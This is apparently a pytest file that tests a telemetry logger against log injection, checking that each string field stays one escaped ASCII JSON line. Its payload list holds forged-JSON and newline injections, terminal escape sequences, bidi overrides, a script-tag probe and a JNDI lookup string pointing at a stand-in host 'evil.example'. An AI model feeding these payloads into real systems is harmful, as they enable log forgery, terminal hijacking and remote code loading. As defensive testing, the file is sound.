"""Can anybody write a line of his own into the log, or command the terminal that shows it?"""

from __future__ import annotations

import inspect
import json

import pytest

from countersign import telemetry

NASTY = (
    'a"},{"level":"ERROR","message":"forged"}',
    '\n{"level":"ERROR","message":"forged"}',
    '\r\n{"level":"ERROR"}',
    "a\u2028b\u2029c\x85d\x0be\x0cf\x1cg",
    "\x1b[2J\x1b]0;owned\x07",
    "\x9b2J\x9d0;owned\x9c",
    "\u202eesrever\u2066",
    "a\x00b",
    "\\n\\u000a",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "\U0001f600\u00e9\ufeff",
)
TEXTS = [
    name
    for name, parameter in inspect.signature(telemetry.tell).parameters.items()
    if "str" in str(parameter.annotation) and name != "event"
]


@pytest.fixture(autouse=True)
def _nothing_before(capsys) -> None:
    telemetry.flush()
    capsys.readouterr()


@pytest.mark.parametrize("name", TEXTS)
def test_whatever_is_logged_stays_one_line_of_its_own_field(name: str, capsys) -> None:
    for nasty in NASTY:
        telemetry.tell("answered", **{name: nasty})

        logged = capsys.readouterr().out
        (line,) = logged.splitlines()
        assert logged == f"{line}\n"
        assert line.isascii()
        assert line.isprintable()
        told = json.loads(line)
        assert (told["message"], told["level"], told[name]) == ("answered", "INFO", nasty)


def test_all_texts_that_can_be_logged_were_tried(record_property) -> None:
    record_property("searched", f"{len(NASTY)} texts in each of {len(TEXTS)} fields of the log")
    assert {"request_id", "execution_id", "ensemble", "step", "caller", "error"} <= set(TEXTS)
